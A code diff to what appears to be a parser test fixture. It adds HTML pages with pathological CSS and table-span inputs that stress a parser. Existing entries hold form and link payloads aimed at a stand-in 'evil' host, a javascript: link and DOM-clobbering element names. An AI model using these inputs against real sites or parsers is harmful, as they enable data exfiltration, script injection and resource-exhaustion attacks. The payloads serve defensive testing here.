@@ -41,6 +41,9 @@ const PAGES: Record<string, string> = {
   forms: `${PRODUCT}<form action="${evil}/s" method=post><input name=getAttribute id=closest autofocus><input type=image src="${evil}/t">
     <button formaction="${evil}/u">go</button></form><a href="${evil}/v" target=_top ping="${evil}/w">away</a>
     <a href="javascript:alert(1)">run</a><img name=elementsFromPoint src=x><img name=querySelectorAll id=body><form name=documentElement></form>`,
+  css: `<style>a{b:url(${' '.repeat(20_000)}</style><style>${'1'.repeat(200_000)}</style><style>${'url('.repeat(50_000)}</style>${PRODUCT}
+    <p style="a:url(${' '.repeat(1980)}">x</p><p style="${'1'.repeat(1990)}">y</p>`,
+  spans: `${PRODUCT}<table>${`<tr>${'<td colspan=1000 rowspan=65534>x</td>'.repeat(20)}</tr>`.repeat(100)}</table>`,
   'no-head': PRODUCT,
   broken: `<table><div><p>${PRODUCT}<b><i></b><p></i><a><a><select><div><svg><p><math></svg></table><li></p></frameset><!-- <script>`,
   deep: `${PRODUCT}${'<div><b><i>'.repeat(3000)}x`,
